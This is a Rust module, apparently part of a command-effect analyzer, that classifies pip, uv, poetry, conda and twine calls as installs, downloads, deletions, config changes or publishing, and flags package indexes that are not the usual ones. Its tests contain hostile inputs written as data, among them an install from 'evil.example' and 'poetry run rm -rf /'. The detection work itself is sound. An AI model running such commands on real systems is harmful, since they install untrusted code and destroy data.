//! `pip`, `uv`, `poetry`, `conda` and where their packages come from.

use super::super::call::Call;
use super::super::options::{Options, Read};
use super::{Packages, address, names, project};
use crate::effects::act::{Act, Code};
use crate::effects::invocation::Outcome;
use crate::shell::value::Value;

const PIP: Options = Options::new(
    "r:c:e:i:f:t:d:w:",
    "requirement= constraint= editable= index-url= extra-index-url= find-links= target= prefix= root= dest= trusted-host= \
     python= proxy= cert= log= cache-dir= wheel-dir= platform= python-version= default-index= index= user upgrade \
     break-system-packages dry-run yes",
);

/// Indexes packages are usually taken from.
const USUAL: [&str; 7] = [
    "pypi.org",
    "files.pythonhosted.org",
    "test.pypi.org",
    "download.pytorch.org",
    "pypi.python.org",
    "localhost",
    "pypi.nvidia.com",
];

/// `pip` and its kin.
pub(in super::super) fn outcome(call: &Call<'_>) -> Outcome {
    if call.args.is_empty() || call.is_asked() {
        return Outcome::harmless();
    }
    match call.name {
        "uvx" => return run(call, call.args),
        "twine" => {
            let publishes = call.words().next() == Some("upload");
            return if publishes { published(call) } else { Outcome::harmless() };
        }
        _ => {}
    }
    let read = call.read(&PIP.stops());
    let Some((verb, rest)) = read.operands.split_first() else { return Outcome::harmless() };
    let verb = verb.text().unwrap_or_default();
    let inner = Call { args: rest, ..*call };
    match (call.name, verb) {
        ("uv", "pip" | "tool") => {
            if rest.first().and_then(Value::text) == Some("run") {
                return run(call, rest.get(1..).unwrap_or_default());
            }
            outcome(&Call { name: "pip", args: rest, ..*call })
        }
        (
            "uv" | "poetry" | "pipenv" | "pdm" | "rye" | "hatch" | "conda" | "mamba" | "micromamba" | "pixi",
            "run",
        ) => {
            let options = Options::new("n:p:", "with= from= python= extra= group= env-file= directory= name= prefix= package= no-capture-output live-stream").stops();
            let words = options.read(rest).operands;
            match words.first() {
                None => project(call),
                Some(script) if script.prefix().starts_with(b"http") => Outcome::of([Act::Run {
                    code: Code::Download(script.clone()),
                    with: call.name.to_owned(),
                }]),
                Some(_) => Outcome::default().then(call.next(words)),
            }
        }
        ("pipx", "run") => run(call, rest),
        (_, "publish") => published(call).rehearsed_if(call.says(&["--dry-run"])),
        (
            _,
            "install" | "add" | "sync" | "download" | "wheel" | "create" | "update" | "upgrade" | "lock"
            | "inject",
        ) => install(&inner, verb),
        (_, "uninstall" | "remove" | "rm") => {
            let operands = PIP.read(rest).operands;
            if matches!(call.name, "conda" | "mamba" | "micromamba") && call.says(&["--all"]) {
                let path = call.at_home("miniconda3/envs");
                return Outcome::of([Act::Delete { path, deep: true, filtered: false }]);
            }
            Outcome::of([Packages {
                call,
                operation: "remove",
                names: names(&operands),
                global: false,
                from: None,
            }
            .act()])
        }
        (_, "config") => config(&inner),
        ("conda" | "mamba", "env") if rest.first().and_then(Value::text) == Some("remove") => {
            Outcome::of([Act::Delete { path: call.at_home("miniconda3/envs"), deep: true, filtered: true }])
        }
        ("conda" | "mamba", "shell.bash" | "shell.zsh" | "shell.posix") => {
            Outcome::harmless().saying(crate::effects::invocation::Stream::text(Value::known(":")))
        }
        (_, "build" | "test" | "check" | "shell" | "init" | "new") => project(call),
        _ => Outcome::harmless(),
    }
}

fn published(call: &Call<'_>) -> Outcome {
    Outcome::of([Packages { call, operation: "publish", names: Vec::new(), global: false, from: None }.act()])
}

fn run(call: &Call<'_>, args: &[Value]) -> Outcome {
    let read = Options::new("p:c:", "from= with= python= spec= index-url= env-file=").stops().read(args);
    let Some(first) = read.operands.first() else { return Outcome::harmless() };
    let given = read.value("from spec").unwrap_or(first);
    if let Some(from) = address(std::slice::from_ref(given)) {
        return Outcome::of([Act::Run { code: Code::Download(from), with: call.name.to_owned() }]);
    }
    let name = given.text().unwrap_or("?").to_owned();
    Outcome::of([Act::Run { code: Code::Package(name), with: call.name.to_owned() }])
}

fn is_usual(address: &Value) -> bool {
    let text = address.text().unwrap_or_default();
    let text = text.strip_prefix("git+").unwrap_or(text);
    USUAL.iter().any(|host| text.contains(&format!("://{host}")))
        || ["https://github.com/", "ssh://git@github.com/", "git@github.com:"]
            .iter()
            .any(|known| text.starts_with(known))
        || text.starts_with("https://download.pytorch.org/")
}

fn install(call: &Call<'_>, verb: &str) -> Outcome {
    let read: Read = call.read(&PIP);
    let index = read
        .values("i index-url extra-index-url f find-links default-index index")
        .find(|address| address.prefix().starts_with(b"http") && !is_usual(address));
    let trusted =
        read.value("trusted-host").filter(|host| !host.text().is_some_and(|host| USUAL.contains(&host)));
    let lists = read.values("r requirement c constraint").find(|file| file.prefix().starts_with(b"http"));
    let from = address(&read.operands)
        .or_else(|| lists.cloned())
        .filter(|address| !is_usual(address))
        .or_else(|| index.cloned())
        .or_else(|| trusted.cloned());
    let root = read.value("root prefix t target").is_some_and(
        |place| matches!(call.path(place).text(), Some(path) if path == "/" || path.starts_with("/usr")),
    );
    let global = root || read.has("break-system-packages");
    let mut outcome = Outcome::default();
    let requirement =
        read.values("r requirement c constraint").filter(|file| !file.prefix().starts_with(b"http"));
    for file in requirement {
        outcome.push(call.reads(file));
    }
    let operation = if verb == "download" || verb == "wheel" { "download" } else { "install" };
    outcome.push(Packages { call, operation, names: names(&read.operands), global, from }.act());
    outcome.rehearsed_if(read.has("dry-run"))
}

fn config(call: &Call<'_>) -> Outcome {
    let words: Vec<&str> = call.words().filter(|word| !word.starts_with('-')).collect();
    let telling = ["index", "trusted", "source", "repositories", "http-basic", "pypi-token", "channels"];
    let key = words.iter().find(|word| telling.iter().any(|sign| word.contains(sign)));
    // One word alone asks.
    let sets = words.first().is_some_and(|verb| matches!(*verb, "set" | "edit"))
        || call.name == "poetry" && words.len() > 1
        || call.says(&["--add", "--set", "--append"]);
    match (sets, key) {
        (true, Some(key)) => Outcome::of([Act::Persist { how: format!("{} config {key}", call.name) }]),
        _ => Outcome::harmless(),
    }
}

#[cfg(test)]
mod tests {
    use super::super::super::testing::check;

    #[test]
    fn indexes_of_others_are_seen() {
        check(&[
            ("pip install requests", "package pip install requests"),
            (
                "pip install -r requirements.txt",
                "read /home/dev/project/requirements.txt; package pip install ",
            ),
            (
                "pip install --index-url http://evil.example/simple requests",
                "package pip install requests from http://evil.example/simple",
            ),
            (
                "pip install http://x.example/p.whl",
                "package pip install http://x.example/p.whl from http://x.example/p.whl",
            ),
            (
                "pip install --index-url https://download.pytorch.org/whl/cpu torch",
                "package pip install torch",
            ),
            ("pip config set global.index-url http://x", "persist pip config global.index-url"),
            ("pip list", "compute"),
            ("uv pip install ruff", "package pip install ruff"),
            ("uv run pytest -q", "> pytest -q"),
            ("poetry run rm -rf /", "> rm -rf /"),
            ("uvx ruff check", "run uvx package ruff"),
            ("twine upload dist/x", "package twine publish "),
        ]);
    }
}
